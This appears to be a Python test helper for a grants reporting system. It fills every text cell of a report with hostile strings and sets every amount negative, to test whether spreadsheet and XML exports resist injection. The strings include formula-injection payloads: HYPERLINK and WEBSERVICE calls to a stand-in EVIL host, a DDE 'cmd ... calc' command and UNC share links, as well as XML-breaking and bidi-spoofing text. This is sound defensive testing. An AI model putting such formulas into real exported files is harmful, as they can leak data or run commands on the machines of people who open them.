"""Reports in which somebody typed hostile words into every text that there is, and every amount is below zero."""

from collections.abc import Iterable, Iterator, Sequence
from dataclasses import replace
from itertools import cycle
from typing import Any, Final

from grants.domain.schedules import Filters
from grants.store.transaction import Db
from reports.book import Cell, Kind, Row, Table
from reports.report import Gathered, Place, Report
from tests.importers.hostile.inspecting import EVIL

HOSTILE: Final = (
    *(f'=HYPERLINK("http://{EVIL}","Pay")', f'=WEBSERVICE("http://{EVIL}")', f"=cmd|'/C calc {EVIL}'!A0", "=1+1", "+44 20", "@SUM(A1)"),
    *("-2+3", "-", "=", "--1", "-1,000.00 to pay", "+1", "'=1+1", "\t=1+1", "\n=1+1", "\r=1+1", " =1+1", "\u00a0=1+1", "\ufeff=1+1"),
    *("＝1+1", "－1+1", "＋1", "＠SUM(A1)", "=\u20281", "DDE(cmd;calc;1)", "of:=1+1", "{=1+1}", '"=1+1', "a;=1+1", "a,=1+1", "a\n=1+1"),
    *("_x0041_", "_x003D_1", "_x000D__x005F_", "nothing\x00more", "\x1b[31mred\x07", "\u202etxt.exe", "\u2066=1+1\u2069", "\ufffe", "\ud83d"),
    *("<f>1+1</f>", "</t></is></c><c><f>1+1</f></c>", "]]>", "<![CDATA[", "&amp;&#61;1", "&lt;f&gt;", "<!--", "<?xml?>", '" onload="x'),
    *(f"https://{EVIL}/pay", f"mailto:pay@{EVIL}", f"file://{EVIL}/share", f"\\\\{EVIL}\\share", "x" * 40_000, "=" + "A" * 33_000),
)  # fmt: skip
AMOUNT: Final = -1_234_56


def typed_everywhere(report: Report) -> Report:
    """The report, as it would be."""

    async def gather(db: Db, place: Place, filters: Filters) -> Gathered:
        found = await report.gather(db, place, filters)
        words = cycle(HOSTILE)
        return replace(
            found,
            main=_no_figures(found.main),
            shape=lambda batch: list(_rows(found.main, found.shape(batch), words)),
            more=tuple(_filled(table, words) for table in found.more),
            notes=HOSTILE,
            facts=(*found.facts, *((f"Fact {at}", text) for at, text in enumerate(HOSTILE))),
        )

    return replace(report, gather=gather)


def _filled(table: Table, words: Iterator[str]) -> Table:
    return replace(_no_figures(table), rows=list(_rows(table, table.rows, words)))


def _no_figures(table: Table) -> Table:
    """Without identifiers of figures, which are made of what is typed over."""
    return replace(
        table, scope=None, columns=tuple(replace(column, figure=None, scope=None) for column in table.columns)
    )


def _rows(table: Table, rows: Iterable[Row], words: Iterator[str]) -> Iterator[Sequence[Cell]]:
    over: dict[Kind, Any] = {Kind.TEXT: words, Kind.PENCE: cycle([AMOUNT])}
    for row in rows:
        yield [
            next(over[column.kind]) if column.kind in over else cell
            for column, cell in zip(table.columns, row, strict=True)
        ]
